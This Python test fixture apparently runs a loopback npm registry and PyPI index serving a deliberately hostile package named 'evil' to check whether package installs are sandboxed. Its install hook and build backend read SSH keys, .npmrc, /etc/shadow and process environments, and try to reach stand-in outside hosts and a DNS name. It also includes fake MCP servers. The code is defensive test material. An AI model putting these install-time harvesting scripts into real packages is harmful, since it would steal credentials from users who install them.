"""A registry of npm and an index of PyPI with a hostile package each, on this host's loopback.

Neighbours: `test_install` lets npm and pip fetch from it. Never: answers for a package that it does not have.
"""

import base64
import hashlib
import http.server
import io
import json
import tarfile
import threading
import zipfile

# What the install script does wherever it runs: it says what it sees, and tries what a worm tries.
SCRIPT = """
const fs = require("fs"), net = require("net"), os = require("os");
const seen = {home: [], port: "none", secret: process.env.CANARY || ""};
for (const place of [process.argv[2], os.homedir()])
  try { seen.home.push(...fs.readdirSync(place)); } catch (error) { seen.home.push(error.code); }
const socket = net.connect(Number(process.argv[3]), "127.0.0.1");
const end = word => { seen.port = word; fs.writeFileSync("seen.json", JSON.stringify(seen)); process.exit(0); };
socket.on("connect", () => end("open"));
socket.on("error", error => end(error.code));
"""
# A script that a person has allowed: it tries every way out that it knows, and every place where something of theirs might be.
WORM = """
const dns = require("dns"), fs = require("fs"), net = require("net");
const [,, home, port] = process.argv, seen = {read: {}, reached: {}, text: JSON.stringify(process.env)};
for (const path of [home + "/id_rsa", home + "/.npmrc", "/etc/shadow", `/proc/${process.ppid}/environ`, "/proc/1/environ"])
  try { seen.text += fs.readFileSync(path); seen.read[path] = "read"; } catch (error) { seen.read[path] = error.code; }
const reach = (host, port) => new Promise(done => {
  const end = word => { seen.reached[host] = word; done(); };
  net.connect({host, port}).on("connect", () => end("open")).on("error", error => end(error.code));
});
const ask = name => new Promise(done => dns.resolve(name, error => { seen.reached[name] = error ? error.code : "known"; done(); }));
Promise.all([reach("127.0.0.2", port), reach("192.0.2.7", 443), reach("elsewhere.example", 443), ask("secret.elsewhere.example")])
  .then(() => { fs.writeFileSync("seen.json", JSON.stringify(seen)); process.exit(0); });
"""
# The same at the build of a package of PyPI, which then has what it saw in its wheel.
BACKEND = """
import errno, json, os, shutil, socket, zipfile
HOME, PORT, WHEEL = {home!r}, {port}, {wheel!r}
def attack():
    seen = {{"read": {{}}, "reached": {{}}, "text": json.dumps(dict(os.environ))}}
    for path in (HOME + "/id_rsa", HOME + "/.npmrc", "/etc/shadow", f"/proc/{{os.getppid()}}/environ", "/proc/1/environ"):
        try:
            with open(path, encoding="utf-8", errors="replace") as file:
                seen["text"] += file.read()
            seen["read"][path] = "read"
        except OSError as error:
            seen["read"][path] = errno.errorcode[error.errno]
    for host, port in (("127.0.0.2", PORT), ("192.0.2.7", 443), ("elsewhere.example", 443), ("secret.elsewhere.example", 443)):
        try:
            socket.create_connection((host, port), 5).close()
            seen["reached"][host] = "open"
        except socket.gaierror:
            seen["reached"][host] = "ENOTFOUND"
        except OSError as error:
            seen["reached"][host] = errno.errorcode.get(error.errno, str(error))
    return json.dumps(seen)
def build_wheel(directory, *_):
    shutil.copy(WHEEL, directory)
    with zipfile.ZipFile(os.path.join(directory, WHEEL), "a") as archive:
        archive.writestr("seen.json", attack())
    return WHEEL
"""
SERVER = """#!/usr/bin/env node
require("readline").createInterface({input: process.stdin}).on("line", line => {
  const {id, method} = JSON.parse(line);
  const result = {
    initialize: {protocolVersion: "2025-11-25", capabilities: {tools: {}}, serverInfo: {name: "evil", version: "1"}},
    "tools/list": {tools: [{name: "where", inputSchema: {type: "object"}}]},
    "tools/call": {content: [{type: "text", text: [__filename, process.env.NODE_COMPILE_CACHE].join(" ")}]},
  }[method];
  const answer = result ? {result} : {error: {code: -32601, message: "no such method"}};
  if (id !== undefined) console.log(JSON.stringify({jsonrpc: "2.0", id, ...answer}));
});
"""


def tarball(files, top="package"):
    """A package of npm; with another directory than its own one of PyPI that has to be built."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in files.items():
            entry, data = tarfile.TarInfo(f"{top}/{name}"), text if isinstance(text, bytes) else text.encode()
            entry.size, entry.mode = len(data), 0o755
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def wheel(name, version, program, more):
    """A package of PyPI."""
    out, base = io.BytesIO(), f"{name}-{version}.dist-info"
    files = {
        f"{name}.py": program,
        f"{base}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{base}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{base}/entry_points.txt": f"[console_scripts]\n{name}-server = {name}:main\n",
    }
    files |= {f"{name}-{version}.data/{path}": text for path, text in more.items()}
    files[f"{base}/RECORD"] = "".join(f"{file},,\n" for file in [*files, f"{base}/RECORD"])
    with zipfile.ZipFile(out, "w") as archive:
        for file, text in files.items():
            archive.writestr(file, text)
    return out.getvalue()


# A server too; to whom says nothing, it says where it lies.
PYTHON_SERVER = '''
import json, sys
def main():
    asked = False
    for asked in map(json.loads, sys.stdin):
        answer = {
            "initialize": {"protocolVersion": "2025-11-25", "capabilities": {"tools": {}}, "serverInfo": {"name": "evil", "version": "1"}},
            "tools/list": {"tools": [{"name": "where", "inputSchema": {"type": "object"}}]},
            "tools/call": {"content": [{"type": "text", "text": __file__}]},
        }.get(asked["method"])
        answer = {"result": answer} if answer else {"error": {"code": -32601, "message": "no such method"}}
        if "id" in asked:
            print(json.dumps({"jsonrpc": "2.0", "id": asked["id"], **answer}), flush=True)
    if not asked:
        print("here", __file__)
'''


class Registry:
    """Serves both, and remembers what it was asked."""

    def __init__(self, home, port):
        """The script looks into `home` and tries `port`."""
        self.asked, self.authorized, self.connections = [], [], 0
        self.files, self.versions = {}, {}
        self.home, self.script_port = home, port
        self.withdrawn = ""
        self.closed = False
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            """One request."""

            def setup(self):
                """One connection."""
                super().setup()
                outer.connections += 1

            def do_GET(self):
                """Answers."""
                outer.asked.append(self.path)
                outer.authorized += self.headers.get_all("Authorization", [])
                kind, body = outer.answer(self.path)
                if outer.closed:
                    kind, body = "text/plain", None
                self.send_response(401 if outer.closed else 200 if body is not None else 404)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body or b"")))
                self.end_headers()
                self.wfile.write(body or b"")

            def log_message(self, *_):
                """Says nothing."""

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        """Ends it."""
        self.server.shutdown()
        self.server.server_close()

    def publish_npm(self, version, more=None, **says):
        """The package `evil` of npm; `more`: files that are in it too; `says`: more of its manifest."""
        manifest = {"name": "evil", "version": version, "bin": {"evil": "server.js"},
                    "scripts": {"install": f"node script.js {self.home} {self.script_port}"}, **says}
        files = {"package.json": json.dumps(manifest), "server.js": SERVER, "script.js": SCRIPT}
        data = tarball({**files, **(more or {})})
        path = f"/evil/-/evil-{version}.tgz"
        self.files[path] = data
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        dist = {"tarball": self.url + path, "integrity": integrity}
        self.versions[version] = {**manifest, "hasInstallScript": True, "dist": dist}

    def publish_pypi(self, version, more=None):
        """The package `evil` of PyPI; `more`: files that it puts elsewhere."""
        self.files[f"/files/evil-{version}-py3-none-any.whl"] = wheel("evil", version, PYTHON_SERVER, more or {})

    def publish_source(self, version):
        """The same as it is before it was built."""
        name = f"evil-{version}-py3-none-any.whl"
        self.files[f"/files/evil-{version}.tar.gz"] = tarball({
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "PKG-INFO": f"Metadata-Version: 2.1\nName: evil\nVersion: {version}\n",
            "backend.py": BACKEND.format(home=str(self.home), port=self.script_port, wheel=name),
            name: wheel("evil", version, PYTHON_SERVER, {}),
        }, f"evil-{version}")

    def answer(self, path):
        """Type and body."""
        if path == "/evil":
            document = {"name": "evil", "versions": self.versions, "dist-tags": {"latest": list(self.versions)[-1]}}
            return "application/json", json.dumps(document).encode()
        if path == "/simple/evil/":
            archives = [file for file in self.files if file.startswith("/files/")]
            # Why a file was withdrawn is what its author writes.
            links = [f'<a href="{self.url}{file}#sha256={hashlib.sha256(self.files[file]).hexdigest()}"{self.withdrawn}>'
                     f'{file.rsplit("/", 1)[1]}</a>' for file in archives]
            return "text/html", "".join(links).encode()
        return "application/octet-stream", self.files.get(path)
